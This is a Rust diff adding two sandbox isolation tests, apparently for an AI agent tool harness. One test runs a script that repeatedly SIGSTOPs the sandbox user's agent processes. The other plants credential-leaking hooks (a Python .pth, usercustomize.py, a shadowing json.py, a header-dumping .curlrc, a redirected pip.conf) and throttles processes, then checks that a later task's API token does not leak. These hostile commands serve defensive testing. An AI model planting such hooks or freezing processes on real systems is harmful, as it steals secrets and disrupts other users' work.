@@ -3637,6 +3637,136 @@ mod state {
         sb.shutdown().await.unwrap();
     }
 
+    /// A command of the session stops every other agent and once-off sweep (exec roots of
+    /// the sandbox user) over and over while other calls run: a sweep holding the session's
+    /// turn may be among them, and every other sweep waits for that turn. The waiters
+    /// continue stopped exec roots once they have waited long enough, so every call still
+    /// answers. Positive control: the stopper stopped some process each pass.
+    pub async fn a_command_stopping_the_agents_wedges_no_sweep(c: Ctx) {
+        let sb = c.sandbox();
+        let k = key("stopper");
+        bash_ok(&sb, &k, "echo x > /workspace/probe.txt").await;
+        // Its own agent aside: stopping that only stops its own call.
+        const STOPPER: &str = r#"n=0; for i in $(seq 60); do
+            for p in /proc/[0-9]*; do
+              [ "${p#/proc/}" = "$PPID" ] && continue
+              [ "$(awk '/^PPid:/ {print $2}' "$p/status" 2>/dev/null)" = 0 ] || continue
+              [ "$(stat -c %u "$p" 2>/dev/null)" = "$(id -u)" ] || continue
+              kill -STOP "${p#/proc/}" 2>/dev/null && n=$((n+1))
+            done; sleep 0.05
+          done; echo "stops $n""#;
+        let stopper = tool(&sb, &k, "Bash", json!({"command": STOPPER, "timeout": 120_000}));
+        let others = async {
+            let mut outs = vec![];
+            for round in 0..4 {
+                let calls = (0..FREEZER_CALLS)
+                    .map(|i| tool(&sb, &k, "Bash", json!({"command": format!("echo {round}-{i}"), "timeout": 90_000})));
+                let read = tool(&sb, &k, "Read", json!({"file_path": "/workspace/probe.txt"}));
+                outs.push((round, futures_util::future::join(futures_util::future::join_all(calls), read).await));
+            }
+            outs
+        };
+        let (stopper, others) = futures_util::future::join(stopper, others).await;
+        let stops: usize = stopper.content.trim().strip_prefix("stops ").and_then(|n| n.parse().ok()).unwrap_or(0);
+        assert!(stops > 0, "the stopper stopped exec roots: {}", stopper.content);
+        for (round, (outs, read)) in others {
+            for (i, o) in outs.iter().enumerate() {
+                assert!(!o.is_error && o.content == format!("{round}-{i}\n"), "round {round}, call {i}: {}", o.content);
+            }
+            assert!(!read.is_error, "round {round}: {}", read.content);
+        }
+        assert_eq!(bash_ok(&sb, &k, "echo fine").await, "fine\n");
+        sb.shutdown().await.unwrap();
+    }
+
+    /// Review (round 3) of the "state a command leaves behind" class, tool configuration
+    /// and process settings: task A (no secrets) plants what the image's tools read at
+    /// start — a Python user-site `.pth` and `usercustomize`, a `~/.curlrc` that dumps a
+    /// request's headers (`libcurl`), pip configuration, a working directory holding a
+    /// `json.py` — and lowers the file-size limit and raises the niceness of every agent.
+    /// Task B, with a secret, then runs ordinary commands: each behaves as on a clean
+    /// machine and nothing of A's runs in them; task C finds the secret nowhere.
+    /// Positive control: the same commands run beside warden (`docker exec` with the
+    /// workspace as HOME, A's directory as working directory) do run A's plants.
+    pub async fn planted_tool_configuration_never_runs_in_a_later_task(c: Ctx) {
+        let sb = c.sandbox();
+        let k = key("tool-config");
+        const SECRET: &str = "tok-5c0ffee1d2e3";
+        const PLANT: &str = r#"set -e
+            site=$(python3 -c 'import site; print(site.getusersitepackages())')
+            mkdir -p "$site" /workspace/.config/pip /workspace/.pip /workspace/trap
+            leak='import os; open("/workspace/leak-%s", "a").write(os.environ.get("API_TOKEN", "none") + "\\n")'
+            printf "$leak\n" pth > "$site/zz.pth"
+            printf "$leak\n" usercustomize > "$site/usercustomize.py"
+            printf "$leak\n" cwd > /workspace/trap/json.py
+            printf 'libcurl = /workspace/leak-curl\n' > /workspace/.curlrc
+            printf '[global]\nindex-url = http://planted.invalid/simple\n' | tee /workspace/.config/pip/pip.conf > /workspace/.pip/pip.conf
+            n=0; for p in /proc/[0-9]*; do
+              [ "$(awk '/^PPid:/ {print $2}' "$p/status" 2>/dev/null)" = 0 ] || continue
+              [ "$(stat -c %u "$p" 2>/dev/null)" = "$(id -u)" ] || continue
+              prlimit --pid "${p#/proc/}" --fsize=16 && renice -n 7 -p "${p#/proc/}" >/dev/null && n=$((n+1))
+            done
+            echo "tampered $n"; prlimit --pid $PPID --fsize --noheadings --output SOFT
+            cd /workspace/trap"#;
+        let planted = bash_ok(&sb, &k, PLANT).await;
+        assert!(planted.starts_with("tampered ") && !planted.starts_with("tampered 0"), "{planted}");
+        assert!(planted.lines().any(|l| l.trim() == "16"), "A lowered its own agent's file-size limit: {planted}");
+        // B: ordinary commands, with a secret.
+        const INNOCENT: &str = r#"python3 -c 'print("py ok")'; python3 -c 'import json; print("json", json.__file__)'
+            curl -s -H "X-Token: $API_TOKEN" file:///etc/hostname > /dev/null; echo "curl $?"
+            pip config list; seq 1 100 | wc -l; nice; pwd"#;
+        let env = vec![("API_TOKEN".to_string(), SECRET.to_string())];
+        let b = sb.call_tool(&k, "Bash", json!({"command": INNOCENT}), &env).await.unwrap();
+        assert!(!b.is_error, "{}", b.content);
+        assert_eq!(
+            b.content,
+            "py ok\njson /usr/lib/python3.11/json/__init__.py\ncurl 0\n:env:.config-file='/dev/null'\n100\n0\n/workspace\n",
+            "B ran as on a clean machine"
+        );
+        // C looks everywhere it can.
+        let seen = bash_ok(&sb, &k, "cat /workspace/leak-* 2>/dev/null; grep -rl -- 'tok-5c0ffee' /workspace /tmp /dev/shm 2>/dev/null; echo done").await;
+        assert_eq!(seen, "done\n", "nothing of B's reached a file: {seen}");
+        // Positive control: without warden's tool variables (`TOOL_CONFIG`) and with A's
+        // working directory, the plants do run.
+        let id = container_of(&sb, &k).await;
+        let control = docker(&[
+            "exec",
+            "-u",
+            "1000:1000",
+            "-w",
+            "/workspace/trap",
+            "-e",
+            "HOME=/workspace",
+            "-e",
+            "API_TOKEN=CONTROL",
+            &id,
+            "env",
+            "-u",
+            "PYTHONNOUSERSITE",
+            "-u",
+            "PIP_CONFIG_FILE",
+            "-u",
+            "CURL_HOME",
+            "-u",
+            "XDG_CONFIG_HOME",
+            "sh",
+            "-c",
+            "python3 -c 'import json' ; curl -s -H \"X-Token: $API_TOKEN\" file:///etc/hostname >/dev/null; \
+             pip config list 2>/dev/null; cat /workspace/leak-pth /workspace/leak-usercustomize /workspace/leak-cwd; \
+             echo \"curl-dump $(grep -c CONTROL /workspace/leak-curl)\"",
+        ]);
+        assert!(
+            control.contains("planted.invalid"),
+            "the planted pip.conf is read without warden's environment: {control}"
+        );
+        assert!(control.matches("CONTROL").count() >= 3, "the .pth, usercustomize and json.py run there: {control}");
+        assert!(
+            !control.contains("curl-dump 0") && control.contains("curl-dump "),
+            "the .curlrc dumps the header there: {control}"
+        );
+        sb.shutdown().await.unwrap();
+    }
+
     /// Rounds of `a_sweep_beside_a_cd_never_loses_it`.
     const CD_ROUNDS: usize = 30;
 
@@ -4095,6 +4225,8 @@ fn all_tests() -> Vec<(&'static str, TestFn)> {
         boundary::detached_processes_end_with_their_call,
         state::the_process_rule_leaves_no_thread_of_the_sandbox_user,
         state::concurrent_sweeps_never_stop_each_other,
+        state::planted_tool_configuration_never_runs_in_a_later_task,
+        state::a_command_stopping_the_agents_wedges_no_sweep,
         state::a_sweep_beside_a_cd_never_loses_it,
         state::a_command_cannot_write_the_next_calls_state,
         state::planted_configuration_does_not_run_in_an_allowed_git_status,
